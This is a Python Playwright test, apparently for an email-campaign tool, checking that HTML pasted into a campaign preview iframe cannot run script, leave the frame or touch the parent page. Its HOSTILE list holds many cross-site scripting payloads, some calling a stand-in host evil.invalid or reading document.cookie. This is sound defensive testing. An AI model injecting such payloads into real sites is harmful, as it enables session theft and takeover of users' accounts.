"""What marketers paste is shown in previews, and can do nothing there."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Route

from tests.browser import pages
from tests.browser import stack as stacks
from tests.browser.chromium import reader

MARK = "owned"
HOSTILE = [
    "<script>parent.document.title='owned'; top.location='https://evil.invalid/'</script>",
    "<script src='https://evil.invalid/x.js'></script>",
    "<img src=x onerror=\"parent.document.title='owned'\">",
    "<svg onload=\"top.document.title='owned'\"></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.invalid/' target=_top><a href=/x>x</a>",
    "<iframe srcdoc='<script>top.document.title=\"owned\"</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe src='https://evil.invalid/'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.invalid/' method=post><button autofocus>x</button></form>",
    "<link rel=stylesheet href='https://evil.invalid/x.css'>",
    "<style>@import 'https://evil.invalid/x.css'; *{background:url(http://evil.invalid/b)}</style>",
    "<a href='javascript:alert(1)' class=click>x</a>",
    "<a href='https://evil.invalid/' target=_top class=click>x</a>",
    "<a href='/settings/' target=_parent class=click>x</a>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "</iframe></pre></title><script>alert(1)</script>",
    "{% raw %}</iframe>{% endraw %}<script>alert(document.cookie)</script>",
]
WORDS = "<script>document.title='owned'</script><img src=x onerror=alert(1)>\"'"


@pytest.fixture
def member(chromium: Browser, demo_house: stacks.Stack) -> Iterator[BrowserContext]:
    with reader(chromium) as context:
        pages.sign_in(context.new_page(), demo_house.address)
        yield context


def test_nothing_in_a_preview_runs_leaves_or_reaches_the_page(member, demo_house: stacks.Stack):
    page = member.new_page()
    escapes: list[str] = []

    def ask(dialog: Dialog) -> None:
        escapes.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", ask)
    page.on("popup", lambda popup: escapes.append(popup.url))
    # What the frame's policy stops never comes this far.
    page.route(re.compile(r"evil\.invalid"), lambda route: escapes.append(stopped(route)))

    page.goto(f"{demo_house.address}/campaigns/new/")
    page.get_by_label("Name").fill(WORDS)
    page.get_by_role("button", name="Start writing").click()
    page.wait_for_url(re.compile("/edit/"))
    edit = page.url
    for body in ["\n".join(HOSTILE[start : start + 7]) for start in range(0, len(HOSTILE), 7)]:
        save(page, edit, body)
        page.goto(edit.replace("/edit/", "/preview/"))
        page.frame_locator("iframe").locator("body").wait_for(state="attached")
        click_in_frame(page)
        assert "/preview/" in page.url, body
        assert MARK not in page.title().replace(WORDS, ""), body
        assert escapes == [], body
        mail = page.frames[1]
        assert mail.url.startswith(demo_house.address), body


def save(page: Page, edit: str, body: str) -> None:
    """Save as the page itself would; what is being tested is what is shown after it."""
    page.goto(edit)
    page.locator("input[name=format][value=html]").check(force=True)
    page.get_by_label("Subject").fill(WORDS)
    page.get_by_label("Preheader").fill(WORDS)
    page.get_by_label("Body", exact=True).fill(body)
    with page.expect_response(lambda answer: answer.request.method == "POST"):
        page.keyboard.press("Control+s")
    page.locator("#save-state", has_text="Saved").wait_for()


def click_in_frame(page: Page) -> None:
    for link in page.frame_locator("iframe").locator(".click").all():
        link.dispatch_event("click")


def stopped(route: Route) -> str:
    route.abort()
    return route.request.url
